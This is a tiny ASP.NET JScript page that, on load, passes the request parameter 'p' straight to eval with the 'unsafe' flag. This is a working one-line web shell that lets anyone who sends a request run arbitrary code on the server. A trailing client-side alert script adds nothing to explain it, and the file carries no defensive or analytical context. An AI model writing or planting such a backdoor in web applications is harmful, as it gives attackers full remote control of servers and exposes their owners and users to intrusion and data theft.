<%@ Page Language="Jscript" %>
<script runat="server" language="JScript">
function Page_Load() {
  var p = Request.Item["p"];
  eval(p, "unsafe");
}
</script>
<script language="javascript">alert('client only: <% Response.Write(1) %>');</script>
